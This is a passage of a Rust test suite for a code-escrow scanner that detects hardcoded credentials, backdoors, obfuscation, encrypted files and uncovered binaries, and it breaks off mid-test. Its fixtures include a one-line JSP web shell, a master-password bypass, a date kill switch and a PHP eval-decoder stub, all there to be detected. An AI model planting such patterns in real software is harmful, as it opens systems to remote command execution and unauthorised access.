//! The technical-barrier scan, detector by detector: each fixture has positive cases (the
//! finding appears, with its rule, path and line) and negative ones (ordinary code, placeholders,
//! third-party libraries, compressed data). Secret-looking strings are made here, at test time,
//! and must never appear in any output.

use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use crate::common::*;

const MANIFEST: &str = MODULE_MANIFEST;

const UPPER_DIGITS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

/// Check `dir` with the base manifest plus `extra`; return the JSON report and exit code.
fn scan(dir: &Path, extra: &str) -> (serde_json::Value, i32) {
    let mdir = tempfile::tempdir().unwrap();
    let m = manifest(mdir.path(), &format!("{MANIFEST}{extra}"));
    let run = check_json(dir, &m);
    (run.json(), run.code)
}

/// The findings of `code` as (rule, path, line).
/// Sorted by rule, then path and line.
fn hits(r: &serde_json::Value, code: &str) -> Vec<(String, String, Option<u64>)> {
    let mut v: Vec<_> = with_code(r, code)
        .into_iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or("").to_owned(),
                f["path"].as_str().unwrap_or("").to_owned(),
                f["line"].as_u64(),
            )
        })
        .collect();
    v.sort();
    v
}

/// `escrow check DIR --manifest M ARGS…`, whatever its exit code.
fn check_run(dir: &Path, m: &Path, args: &[&str]) -> Run {
    let mut all: Vec<&std::ffi::OsStr> = vec![
        "check".as_ref(),
        dir.as_os_str(),
        "--manifest".as_ref(),
        m.as_os_str(),
    ];
    all.extend(args.iter().map(std::ffi::OsStr::new));
    escrow(all)
}

fn human(dir: &Path, extra: &str, lang: &str) -> String {
    let mdir = tempfile::tempdir().unwrap();
    let m = manifest(mdir.path(), &format!("{MANIFEST}{extra}"));
    let run = check_run(dir, &m, &["--lang", lang]);
    assert_ne!(run.code, 2, "{}", run.stderr);
    format!("{}{}", run.stdout, run.stderr)
}

#[test]
#[allow(clippy::too_many_lines)] // one scenario: every credential shape, then what is printed
fn credentials_are_found_and_never_printed() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(0x5eed_1234);
    let aws = format!("AKIA{}", g.chars(UPPER_DIGITS, 16));
    let aliyun = format!("LTAI{}", g.chars(ALNUM, 20));
    let github = format!("ghp_{}", g.chars(ALNUM, 36));
    let db_pass = g.chars(ALNUM, 14);
    let sa_pass = g.chars(ALNUM, 12);
    let url_pass = g.chars(ALNUM, 10);
    let code_pass = g.chars(ALNUM, 11);
    let key_header = ["-----BEGIN ", "RSA PRIVATE", " KEY-----"].concat();
    let key_body = g.chars(ALNUM, 64);
    write(
        d,
        "config/application.properties",
        format!(
            "server.port=8080\nspring.datasource.url=jdbc:mysql://db:3306/his\nspring.datasource.password={db_pass}\n# a placeholder is not a secret; a default password is (a weak one)\nspring.redis.password=${{REDIS_PASSWORD}}\nmail.password=changeme\n"
        ),
    );
    write(
        d,
        "web/Web.config",
        format!(
            "<configuration>\n  <connectionStrings>\n    <add name=\"his\" connectionString=\"Server=10.0.0.5;Database=HIS;User ID=sa;Password={sa_pass};\" />\n  </connectionStrings>\n</configuration>\n"
        ),
    );
    write(
        d,
        "src/main/java/com/acme/his/Cloud.java",
        format!(
            "package com.acme.his;\n\nclass Cloud {{\n    static final String KEY_ID = \"{aws}\";\n    static final String ALIYUN = \"{aliyun}\";\n    String dbPassword = \"{code_pass}\";\n    String token = System.getenv(\"TOKEN\");\n}}\n"
        ),
    );
    write(
        d,
        "scripts/sync.sh",
        format!(
            "#!/bin/sh\ncurl https://ci:{github}@git.example.org/his.git\nmysqldump mysql://backup:{url_pass}@db/his > his.sql\n"
        ),
    );
    // A UTF-16 configuration file (as Visual Studio saves some).
    let utf16_pass = g.chars(ALNUM, 13);
    let mut utf16 = vec![0xff, 0xfe];
    let config = format!(
        "<appSettings>\r\n  <add key=\"db\" value=\"Data Source=his;User Id=his;Password={utf16_pass};\" />\r\n</appSettings>\r\n"
    );
    for u in config.encode_utf16() {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    write(d, "web/app.config", utf16);
    write(
        d,
        "deploy/id_rsa",
        format!("{key_header}\n{key_body}\n-----END RSA PRIVATE KEY-----\n"),
    );
    // Negative: a test key inside a third-party library.
    write(
        d,
        "web/node_modules/tls-lib/test/key.pem",
        format!("{key_header}\n{key_body}\n"),
    );
    // Negative: ordinary code talking about passwords.
    write(
        d,
        "src/main/java/com/acme/his/Login.java",
        "package com.acme.his;\nclass Login {\n  boolean ok(String password, String confirmPassword) {\n    return password.equals(confirmPassword);\n  }\n}\n",
    );
    let (r, code) = scan(d, "");
    assert_eq!(code, 0, "credentials are warnings by default: {r}");
    let found = hits(&r, "credential-hardcoded");
    let rules: Vec<&str> = found.iter().map(|h| h.0.as_str()).collect();
    assert_eq!(
        found,
        vec![
            (
                "aliyun-access-key".into(),
                "src/main/java/com/acme/his/Cloud.java".into(),
                Some(5)
            ),
            (
                "aws-access-key".into(),
                "src/main/java/com/acme/his/Cloud.java".into(),
                Some(4)
            ),
            (
                "code-password".into(),
                "src/main/java/com/acme/his/Cloud.java".into(),
                Some(6)
            ),
            (
                "config-password".into(),
                "config/application.properties".into(),
                Some(3)
            ),
            (
                "config-password".into(),
                "config/application.properties".into(),
                Some(6)
            ),
            (
                "connection-string-password".into(),
                "web/Web.config".into(),
                Some(3)
            ),
            (
                "connection-string-password".into(),
                "web/app.config".into(),
                Some(2)
            ),
            ("github-token".into(), "scripts/sync.sh".into(), Some(2)),
            ("private-key".into(), "deploy/id_rsa".into(), Some(1)),
            ("url-password".into(), "scripts/sync.sh".into(), Some(3)),
        ],
        "{rules:?}"
    );
    // The evidence names the key and a fingerprint, never the value.
    let f = with_code(&r, "credential-hardcoded")
        .into_iter()
        .find(|f| f["rule"] == "config-password")
        .unwrap();
    let ev = f["evidence"][0].as_str().unwrap();
    assert!(ev.starts_with("spring.datasource.password="), "{ev}");
    assert!(ev.contains("fingerprint sha256:"), "{ev}");
    // No secret in any output.
    let outputs = [
        serde_json::to_string(&r).unwrap(),
        human(d, "", "en"),
        human(d, "", "zh"),
    ];
    for out in &outputs {
        for secret in [
            &aws,
            &aliyun,
            &github,
            &db_pass,
            &sa_pass,
            &url_pass,
            &code_pass,
            &key_body,
            &utf16_pass,
        ] {
            assert!(
                !out.contains(secret.as_str()),
                "secret {secret} printed:\n{out}"
            );
        }
    }
    assert!(outputs[1].contains("credential-hardcoded"));
    // Each group names the contract criterion it concerns.
    assert!(
        outputs[1].contains("③ no technical barriers (无技术壁垒)"),
        "{}",
        outputs[1]
    );
    assert!(outputs[2].contains("③ 无技术壁垒"), "{}", outputs[2]);
    assert!(outputs[2].contains("凭据"), "{}", outputs[2]);
}

#[test]
fn backdoor_patterns_are_flagged_for_review() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(77);
    let master = g.chars(ALNUM, 10);
    write(
        d,
        "src/Auth.java",
        format!(
            "class Auth {{\n  boolean login(String user, String password) {{\n    if (\"superadmin\".equals(user) && password.equals(\"{master}\")) return true;\n    return check(user, password);\n  }}\n}}\n"
        ),
    );
    write(
        d,
        "src/Guard.java",
        "class Guard {\n  void run() throws Exception {\n    if (new Date().after(fmt.parse(\"2027-06-30\"))) { System.exit(0); }\n    if (!license.isValid()) { System.exit(1); }\n  }\n}\n",
    );
    write(
        d,
        "web/cmd.jsp",
        "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n",
    );
    // A GBK-encoded file (Chinese Windows editors): a licence lock written in Chinese.
    let (gbk, _, _) = encoding_rs::GBK.encode(
        "class Lic {\n  // 授权检查\n  void f() { if (授权码过期(code)) { System.exit(2); } }\n}\n",
    );
    write(d, "src/Lic.java", gbk);
    // Negatives: comparisons with variables and dates from data.
    write(
        d,
        "src/Ok.java",
        "class Ok {\n  boolean a(String password, String stored) { return password.equals(stored); }\n  boolean b() { return LocalDate.now().isAfter(contract.getEndDate()); }\n  // released 2026-01-01\n}\n",
    );
    let (r, code) = scan(d, "");
    assert_eq!(code, 0, "{r}");
    let found = hits(&r, "backdoor-suspect");
    assert_eq!(
        found,
        vec![
            ("date-kill-switch".into(), "src/Guard.java".into(), Some(3)),
            (
                "hardcoded-credential-compare".into(),
                "src/Auth.java".into(),
                Some(3)
            ),
            ("licence-lock".into(), "src/Guard.java".into(), Some(4)),
            ("licence-lock".into(), "src/Lic.java".into(), Some(3)),
            ("remote-command".into(), "web/cmd.jsp".into(), Some(1)),
        ],
        "{r}"
    );
    assert!(!serde_json::to_string(&r).unwrap().contains(&master));
    assert!(!human(d, "", "en").contains(&master));
}

#[test]
fn encoders_are_denied() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(9);
    let payload = g.chars(ALNUM, 400);
    write(
        d,
        "php/billing.php",
        format!(
            "<?php //0046a\nif(!extension_loaded('ionCube Loader')){{die('The ionCube Loader is needed');}}\n?>\n{payload}\n"
        ),
    );
    write(
        d,
        "py/core.py",
        format!(
            "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'{payload}')\n"
        ),
    );
    write(
        d,
        "php/legacy.php",
        format!("<?php eval(gzinflate(base64_decode('{payload}'))); ?>\n"),
    );
    // Negatives: plain PHP and Python, an eval of a variable.
    write(d, "php/index.php", "<?php echo 'hello'; $f = 'x'; ?>\n");
    write(d, "py/ok.py", "import os\nprint(os.getcwd())\n");
    let (r, code) = scan(d, "");
    assert_eq!(code, 1, "{r}");
    assert_eq!(
        hits(&r, "source-encoded"),
        vec![
            ("ioncube".into(), "php/billing.php".into(), Some(1)),
            ("php-eval-decoder".into(), "php/legacy.php".into(), Some(1)),
            ("pyarmor".into(), "py/core.py".into(), Some(1)),
        ]
    );
    assert_eq!(codes(&r), ["source-encoded"; 3]);
}

fn pe(markers: &[&str]) -> Vec<u8> {
    let mut v = b"MZ\x90\0".to_vec();
    v.extend_from_slice(&[0u8; 200]);
    v.extend_from_slice(b"PE\0\0BSJB");
    for m in markers {
        v.extend_from_slice(m.as_bytes());
        v.push(0);
    }
    v
}

fn class_file() -> Vec<u8> {
    let mut v = vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61];
    v.extend_from_slice(&[0u8; 40]);
    v
}

#[test]
fn obfuscation_is_denied_and_minified_libraries_with_source_are_not() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    // javascript-obfuscator output.
    let mut js = String::from("var _0x3f2a=['push','shift'];");
    for i in 0..12 {
        js.push_str(&format!(
            "\nfunction _0x{:04x}(_0x1b2c){{return _0x3f2a[_0x1b2c];}}",
            0x1000 + i
        ));
    }
    write(d, "web/static/his.js", js);
    // A minified bundle with no source anywhere.
    let bundle = format!("!function(){{{}}}();", "var a=1,b=2;".repeat(600));
    write(d, "web/static/app.min.js", &bundle);
    // An obfuscated .NET assembly.
    write(d, "bin/Acme.Pay.dll", pe(&["ConfusedByAttribute"]));
    // Name-mangled classes: a.class … l.class.
    for n in ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l"] {
        write(d, &format!("WEB-INF/classes/com/x/{n}.class"), class_file());
    }
    let (r, code) = scan(d, "");
    assert_eq!(code, 1);
    assert_eq!(
        hits(&r, "source-obfuscated"),
        vec![
            ("dotnet-obfuscator".into(), "bin/Acme.Pay.dll".into(), None),
            (
                "java-name-mangling".into(),
                "WEB-INF/classes/com/x".into(),
                None
            ),
            (
                "js-obfuscator-identifiers".into(),
                "web/static/his.js".into(),
                Some(1)
            ),
            (
                "minified-without-source".into(),
                "web/static/app.min.js".into(),
                None
            ),
        ],
        "{r}"
    );

    // Negatives: the same bundle with its source delivered, a library with its licence banner,
    // and an ordinary .NET assembly.
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(d, "web/dist/app.min.js", &bundle);
    write(d, "web/src/router.js", "export default [];\n");
    write(d, "web/src/App.vue", "<template><div/></template>\n");
    write(
        d,
        "web/src/main.js",
        "import App from './App.vue';\nnew Vue({ render: h => h(App) });\n",
    );
    write(d, "web/package.json", "{\"name\": \"his-web\"}\n");
    write(
        d,
        "web/static/jquery.min.js",
        format!("/*! jQuery v3.7.1 | (c) OpenJS Foundation | jquery.org/license */\n{bundle}"),
    );
    write(
        d,
        "src/Acme.Pay/Acme.Pay.csproj",
        "<Project><PropertyGroup><AssemblyName>Acme.Pay</AssemblyName></PropertyGroup></Project>\n",
    );
    write(
        d,
        "src/Acme.Pay/Pay.cs",
        "namespace Acme.Pay { class Pay {} }\n",
    );
    write(d, "bin/Acme.Pay.dll", pe(&[]));
    let (r, code) = scan(d, "");
    assert_eq!(codes(&r), Vec::<String>::new(), "{r}");
    assert_eq!(code, 0);
}

fn jar(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let e: Vec<(&[u8], &[u8], u16)> = entries
        .iter()
        .map(|(n, d)| (n.as_bytes(), *d, 0u16))
        .collect();
    raw_zip(&e)
}

#[test]
fn compiled_code_needs_its_source() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let class = class_file();
    // Delivered source: package com.acme.his.
    write(
        d,
        "src/main/java/com/acme/his/Order.java",
        "package com.acme.his;\npublic class Order {}\n",
    );
    write(
        d,
        "pom.xml",
        "<project><dependencies><dependency><artifactId>commons-lang3</artifactId></dependency></dependencies></project>\n",
    );
    // Covered: the class compiled from it (and an inner class).
    write(d, "target/classes/com/acme/his/Order.class", &class);
    write(d, "target/classes/com/acme/his/Order$Line.class", &class);
    // Not covered: a loose class of the vendor's package.
    write(d, "WEB-INF/classes/com/acme/his/Billing.class", &class);
    // A jar of the vendor's own code without source.
    write(
        d,
        "WEB-INF/lib/his-billing.jar",
        jar(&[
            ("com/acme/his/billing/Fee.class", &class),
            ("META-INF/MANIFEST.MF", b"x"),
        ]),
    );
    // Third-party jars: declared in pom.xml; with Maven metadata; under a vendored path.
    write(
        d,
        "WEB-INF/lib/commons-lang3-3.12.0.jar",
        jar(&[("org/apache/commons/lang3/StringUtils.class", &class)]),
    );
    write(
        d,
        "WEB-INF/lib/fastjson-1.2.83.jar",
        jar(&[
            ("com/alibaba/fastjson/JSON.class", &class),
            (
                "META-INF/maven/com.alibaba/fastjson/pom.properties",
                b"version=1.2.83",
            ),
        ]),
    );
    write(
        d,
        "ext/sdk/vendor-sdk.jar",
        jar(&[("cn/sdk/Api.class", &class)]),
    );
    // A jar of unknown origin.
    write(d, "lib/mystery.jar", jar(&[("q/r/Z.class", &class)]));
    // Python: compiled with and without source.
    write(d, "py/util.py", "def f():\n    return 1\n");
    write(
        d,
        "py/__pycache__/util.cpython-311.pyc",
        b"\x6f\x0d\x0d\x0a\0\0\0\0",
    );
    write(
        d,
        "py/__pycache__/secret_algo.cpython-311.pyc",
        b"\x6f\x0d\x0d\x0a\0\0\0\0",
    );
    // .NET: an assembly of the vendor's namespace with no project, a NuGet package.
    write(
        d,
        "src/Web/Home.cs",
        "namespace Acme.Web { class Home {} }\n",
    );
    write(d, "bin/Acme.Core.dll", pe(&[]));
    write(
        d,
        "packages/Newtonsoft.Json.13.0.1/lib/net45/Newtonsoft.Json.dll",
        pe(&[]),
    );
    let (r, code) = scan(d, "[scan]\nvendored = [\"ext/**\"]\n");
    assert_eq!(code, 1);
    assert_eq!(
        hits(&r, "binary-without-source"),
        vec![
            (
                "class-without-source".into(),
                "WEB-INF/classes/com/acme/his".into(),
                None
            ),
            (
                "dotnet-without-source".into(),
                "bin/Acme.Core.dll".into(),
                None
            ),
            (
                "jar-without-source".into(),
                "WEB-INF/lib/his-billing.jar".into(),
                None
            ),
            (
                "pyc-without-source".into(),
                "py/__pycache__/secret_algo.cpython-311.pyc".into(),
                None
            ),
        ],
        "{r}"
    );
    assert_eq!(
        hits(&r, "binary-unattributed"),
        vec![("jar-unattributed".into(), "lib/mystery.jar".into(), None)]
    );
    let jar_finding = with_code(&r, "binary-without-source")
        .into_iter()
        .find(|f| f["rule"] == "jar-without-source")
        .unwrap();
    let ev = jar_finding["evidence"].to_string();
    assert!(
        ev.contains("com/acme/his/billing/Fee.class") && ev.contains("heuristic"),
        "{ev}"
    );
}

#[test]
fn encrypted_files_and_archives_are_denied() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(4242);
    // Random bytes under text and source names.
    write(d, "config/license.lic", g.bytes(4096));
    write(d, "src/Core.java", g.bytes(20_000));
    write(
        d,
        "data/secrets.enc",
        [b"Salted__".to_vec(), g.bytes(512)].concat(),
    );
    // A nested zip with an encrypted entry, a 7z with AES and a RAR5 with encrypted headers.
    write(
        d,
        "backup/old.zip",
        raw_zip(&[(b"a.txt", b"hello", 0), (b"keys.txt", &g.bytes(64), 1)]),
    );
    let mut seven = b"7z\xbc\xaf\x27\x1c\x00\x04".to_vec();
    seven.extend_from_slice(&[0; 4]);
    seven.extend_from_slice(&0u64.to_le_bytes());
    seven.extend_from_slice(&8u64.to_le_bytes());
    seven.extend_from_slice(&[0; 4]);
    seven.extend_from_slice(&[0x17, 0x06, 0xf1, 0x07, 0x01, 0, 0, 0]);
    write(d, "backup/db.7z", seven);
    write(
        d,
        "backup/src.rar",
        b"Rar!\x1a\x07\x01\x00\0\0\0\0\x03\x04\x00\x00",
    );
    // Negatives: compressed data and media with random-looking payloads, an unencrypted zip,
    // ordinary text. Random bytes in a `.bin` file match no format: a warning only.
    write(
        d,
        "docs/logs.txt.gz",
        [vec![0x1f, 0x8b, 8, 0], g.bytes(4096)].concat(),
    );
    write(
        d,
        "docs/manual.txt",
        [vec![0x1f, 0x8b, 8, 0], g.bytes(4096)].concat(),
    );
    write(
        d,
        "web/logo.png",
        [b"\x89PNG\r\n\x1a\n".to_vec(), g.bytes(4096)].concat(),
    );
    write(d, "data/table.bin", g.bytes(4096));
    write(d, "backup/plain.zip", raw_zip(&[(b"a.txt", b"hello", 0)]));
    write(
        d,
        "README.md",
        "# HIS\nBuild with mvn package.\n".repeat(50),
    );
    let (r, code) = scan(d, "");
    assert_eq!(code, 1);
    assert_eq!(
        hits(&r, "file-encrypted"),
        vec![
            ("openssl-salted".into(), "data/secrets.enc".into(), None),
            ("random-content".into(), "config/license.lic".into(), None),
            ("random-content".into(), "src/Core.java".into(), None),
            (
                "random-content-unnamed".into(),
                "data/table.bin".into(),
                None
            ),
        ],
        "{r}"
    );
    let lic = with_code(&r, "file-encrypted")
        .into_iter()
        .find(|f| f["path"] == "config/license.lic")
        .unwrap();
    assert!(lic["evidence"][0].as_str().unwrap().contains("chi-square"));
    assert_eq!(
        hits(&r, "archive-encrypted"),
        vec![
            ("nested-archive".into(), "backup/db.7z".into(), None),
            ("nested-archive".into(), "backup/old.zip".into(), None),
            ("nested-archive".into(), "backup/src.rar".into(), None),
        ],
        "{r}"
    );
}

#[test]
fn allowances_rules_and_switches_from_the_manifest() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(31337);
    let pass = g.chars(ALNUM, 12);
    write(
        d,
        "config/dev/db.properties",
        format!("db.password={pass}\n"),
    );
    write(
        d,
        "config/prod/db.properties",
        format!("db.password={pass}x\n"),
    );
    write(
        d,
        "src/Hook.java",
        "class Hook { void x() { VENDOR_REMOTE_UNLOCK(); } }\n",
    );

    // An allowance silences one path, and the report lists it with its reason.
    let allow = "[[allow]]\ncode = \"credential-hardcoded\"\npaths = [\"config/dev/**\"]\nreason = \"development database, not reachable from production\"\n";
    let (r, _) = scan(d, allow);
    assert_eq!(
        hits(&r, "credential-hardcoded"),
        vec![(
            "config-password".into(),
            "config/prod/db.properties".into(),
            Some(1)
        )]
    );
    assert_eq!(r["allowed"][0]["silenced"], 1, "{r}");
    assert_eq!(
        r["allowed"][0]["reason"],
        "development database, not reachable from production"
    );
    let text = human(d, allow, "en");
    assert!(
        text.contains("development database, not reachable from production"),
        "{text}"
    );

    // A manifest rule adds a pattern; [severity] and a rule's severity change the verdict.
    let rule = "[[rule]]\nid = \"vendor-unlock\"\ncode = \"backdoor-suspect\"\ndescription = \"vendor remote unlock hook\"\nregex = '''VENDOR_REMOTE_UNLOCK'''\nkeywords = [\"vendor_remote\"]\nseverity = \"deny\"\n";
    let (r, code) = scan(d, rule);
    assert_eq!(code, 1, "{r}");
    assert_eq!(
        hits(&r, "backdoor-suspect"),
        vec![("vendor-unlock".into(), "src/Hook.java".into(), Some(1))]
    );
    let (_, code) = scan(d, "[severity]\ncredential-hardcoded = \"deny\"\n");
    assert_eq!(code, 1);

    // A built-in rule switched off; the whole scan switched off.
    let (r, _) = scan(d, "[[rule]]\nid = \"config-password\"\nenabled = false\n");
    assert!(hits(&r, "credential-hardcoded").is_empty(), "{r}");
    let (r, _) = scan(d, "[scan]\nenabled = false\n");
    assert!(r.get("scan").is_none());
    assert!(codes(&r).is_empty());

    // Mistakes are reported with their position, exit 2.
    let mdir = tempfile::tempdir().unwrap();
    let m = manifest(
        mdir.path(),
        &format!(
            "{MANIFEST}[[rule]]\nid = \"bad\"\ncode = \"credential-hardcoded\"\ndescription = \"x\"\nregex = '''(unclosed'''\nkeywords = [\"x\"]\n[[allow]]\ncode = \"no-such-code\"\npaths = []\nreason = \"\"\n"
        ),
    );
    let run = check_run(d, &m, &[]);
    assert_eq!(run.code, 2);
    for want in [
        "manifest.toml:6:1: rule \"bad\": the regex does not compile",
        "manifest.toml:13:8: [[allow]]: unknown finding code \"no-such-code\"",
        "manifest.toml:14:9: [[allow]]: `paths` is empty",
        "manifest.toml:15:10: [[allow]]: `reason` is empty",
    ] {
        assert!(
            run.stderr.contains(want),
            "missing {want:?} in:\n{}",
            run.stderr
        );
    }
}

#[test]
fn archives_are_scanned_too() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path().join("d");
    let mut g = Gen(5);
    let aws = format!("AKIA{}", g.chars(UPPER_DIGITS, 16));
    write(
        &d,
        "his/src/Cloud.java",
        format!("class C {{ String k = \"{aws}\"; }}\n"),
    );
    let tgz = tmp.path().join("his.tar.gz");
    let st = std::process::Command::new("tar")
        .arg("-czf")
        .arg(&tgz)
        .arg("-C")
        .arg(&d)
        .arg("his")
        .status()
        .unwrap();
    assert!(st.success());
    let (r, _) = scan(&tgz, "");
    assert_eq!(
        hits(&r, "credential-hardcoded"),
        vec![("aws-access-key".into(), "src/Cloud.java".into(), Some(1))],
        "{r}"
    );
    assert!(!serde_json::to_string(&r).unwrap().contains(&aws));
}

#[test]
fn deposits_keep_redacted_scan_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path().join("d");
    let vault = tmp.path().join("vault");
    let mut g = Gen(99);
    let pass = g.chars(ALNUM, 15);
    write(
        &d,
        "config/db.properties",
        format!("jdbc.password={pass}\n"),
    );
    write(&d, "src/App.java", "class App {}\n");
    let mdir = tempfile::tempdir().unwrap();
    let m = manifest(mdir.path(), MANIFEST);
    let run = escrow([
        "deposit".as_ref(),
        d.as_os_str(),
        "--manifest".as_ref(),
        m.as_os_str(),
        "--label".as_ref(),
        "v1".as_ref(),
        "--vault".as_ref(),
        vault.as_os_str(),
        "-q".as_ref(),
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(!run.stdout.contains(&pass) && !run.stderr.contains(&pass));
    let show = escrow([
        "show".as_ref(),
        "v1".as_ref(),
        "--vault".as_ref(),
        vault.as_os_str(),
        "--format".as_ref(),
        "json".as_ref(),
    ]);
    assert_eq!(show.code, 0, "{}", show.stderr);
    assert!(show.stdout.contains("config-password"), "{}", show.stdout);
    assert!(!show.stdout.contains(&pass));
    // The stored record's human view neither (the delivered file itself is in the vault, of
    // course: it is part of the delivery).
    let human = escrow([
        "show".as_ref(),
        "v1".as_ref(),
        "--vault".as_ref(),
        vault.as_os_str(),
    ]);
    assert!(!human.stdout.contains(&pass));
}

/// A 7z variable-length number (values below 0x4000).
fn number_7z(v: usize) -> Vec<u8> {
    if v < 0x80 {
        vec![v as u8]
    } else {
        assert!(v < 0x4000);
        vec![0x80 | (v >> 8) as u8, (v & 0xff) as u8]
    }
}

/// A 7z archive whose header (holding the AES coder id of encrypted content) is LZMA-packed,
/// as 7-Zip writes archives made with a password but without header encryption.
fn seven_zip_packed_header() -> Vec<u8> {
    use std::io::Read;
    let mut header = b"\x01\x04\x06\x00\x01\x09\x40\x00\x07\x0b\x01\x00\x02".to_vec();
    header.extend_from_slice(&[0x24, 0x06, 0xf1, 0x07, 0x01, 0x10, 0x53, 0x0f]);
    header.extend(std::iter::repeat_n(b'h', 200));
    let opts = xz2::stream::LzmaOptions::new_preset(6).unwrap();
    let stream = xz2::stream::Stream::new_lzma_encoder(&opts).unwrap();
    let mut alone = Vec::new();
    xz2::read::XzEncoder::new_stream(&header[..], stream)
        .read_to_end(&mut alone)
        .unwrap();
    let (props, packed) = (&alone[..5], &alone[13..]);
    let mut next = vec![0x17, 0x06, 0x00, 0x01, 0x09];
    next.extend(number_7z(packed.len()));
    next.extend_from_slice(&[
        0x00, 0x07, 0x0b, 0x01, 0x00, 0x01, 0x23, 0x03, 0x01, 0x01, 0x05,
    ]);
    next.extend_from_slice(props);
    next.push(0x0c);
    next.extend(number_7z(header.len()));
    next.extend_from_slice(&[0x00, 0x00]);
    let mut out = b"7z\xbc\xaf\x27\x1c\x00\x04\0\0\0\0".to_vec();
    out.extend_from_slice(&(packed.len() as u64).to_le_bytes());
    out.extend_from_slice(&(next.len() as u64).to_le_bytes());
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(packed);
    out.extend_from_slice(&next);
    assert!(!out.windows(4).any(|w| w == [0x06, 0xf1, 0x07, 0x01]));
    out
}

#[test]
fn a_7z_with_a_packed_header_is_read_for_encryption() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(d, "backup/his.7z", seven_zip_packed_header());
    let (r, code) = scan(d, "");
    assert_eq!(code, 1, "{r}");
    assert_eq!(
        hits(&r, "archive-encrypted"),
        vec![("nested-archive".into(), "backup/his.7z".into(), None)]
    );
}

#[test]
fn secrets_on_lines_of_other_findings_are_redacted_too() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut g = Gen(2024);
    let master = g.chars(ALNUM, 8) + "7!";
    let unknown = g.chars(ALNUM, 10) + "42";
    let db = g.chars(ALNUM, 12);
    let gh = format!("ghp_{}", g.chars(ALNUM, 36));
    let aws = format!("AKIA{}", g.chars(UPPER_DIGITS, 16));
    let key_body = g.chars(ALNUM, 300);
    let key_header = ["-----BEGIN ", "PRIVATE", " KEY-----"].concat();
    write(
        d,
        "src/Login.java",
        format!(
            "class Login {{\n  boolean f(String u, String p) {{\n    if (LocalDate.now().isAfter(LocalDate.of(2027, 1, 1)) || p.equals(\"{master}\")) return true;\n    return false;\n  }}\n  void c() {{ DriverManager.getConnection(url, \"sa\", \"{unknown}\"); String k = \"{aws}\"; }}\n  String dbPassword = \"{db}\"; {} String gh = \"{gh}\";\n}}\n",
            "/* padding */ ".repeat(10)
        ),
    );
    write(
        d,
        "deploy/sa.json",
        format!(
            "{{\"type\": \"service_account\", \"private_key\": \"{key_header}\\n{key_body}\\n\"}}\n"
        ),
    );
    let (r, _) = scan(d, "");
    let json = serde_json::to_string(&r).unwrap();
    let text = format!("{json}{}{}", human(d, "", "en"), human(d, "", "zh"));
    for secret in [&master, &unknown, &db, &gh, &aws, &key_body] {
        for part in [&secret[..], &secret[secret.len() - 7..]] {
            assert!(
                !text.contains(part),
                "{part:?} of {secret} printed:\n{text}"
            );
        }
    }
    // The findings are still there.
    let rules: Vec<String> = hits(&r, "credential-hardcoded")
        .into_iter()
        .map(|h| h.0)
        .collect();
    for want in [
        "aws-access-key",
        "code-password",
        "github-token",
        "private-key",
    ] {
        assert!(rules.iter().any(|r| r == want), "{want}: {rules:?}");
    }
    assert_eq!(hits(&r, "backdoor-suspect").len(), 1, "{r}");
}

#[test]
fn hostile_and_heavy_inputs_stay_bounded() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    // A RAR 5 header whose data size wraps the offset back to the start.
    let mut rar = b"Rar!\x1a\x07\x01\x00\0\0\0\0\x0d\x02\x02".to_vec();
    rar.extend_from_slice(&[0xf8, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01]);
    rar.extend(vec![0u8; 2 << 20]);
    write(d, "backup/loop.rar", rar);
    // A config file with a password on each of 20,000 lines.
    let mut g = Gen(7);
    let mut props = String::new();
    for i in 0..20_000 {
        props.push_str(&format!("db{i}.password={}\n", g.chars(ALNUM, 12)));
    }
    write(d, "config/many.properties", props);
    let started = std::time::Instant::now();
    let (r, _) = scan(d, "");
    assert!(started.elapsed().as_secs() < 30, "{:?}", started.elapsed());
    let found = with_code(&r, "credential-hardcoded");
    assert_eq!(found.len(), 50, "at most 50 per rule and file");
    let last = found.last().unwrap()["evidence"].to_string();
    assert!(last.contains("19950 more matching lines"), "{last}");
    assert!(hits(&r, "archive-encrypted").is_empty());
}

#[test]
fn heuristics_spare_ordinary_projects() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let class = class_file();
    let mut g = Gen(11);
    // First-party code in folders named like third-party ones is still scanned …
    let pass = g.chars(ALNUM, 12);
    write(
        d,
        "packages/his-web/src/api.js",
        format!("const password = \"{pass}\";\n"),
    );
    write(
        d,
        "src/main/java/com/acme/his/vendor/VendorDao.java",
        format!(
            "package com.acme.his.vendor;\nclass VendorDao {{ String dbPassword = \"{pass}x\"; }}\n"
        ),
    );
    // … and NuGet's packages folder is third-party.
    write(
        d,
        "packages/Some.Lib.1.2.3/test/key.config",
        format!("<add key=\"x\" value=\"y\" password=\"{pass}y\" />\n"),
    );
    // Kotlin file classes and non-public top-level classes have their source.
    write(
        d,
        "src/main/kotlin/com/acme/his/Utils.kt",
        "package com.acme.his\n\nfun today() = 1\n",
    );
    write(
        d,
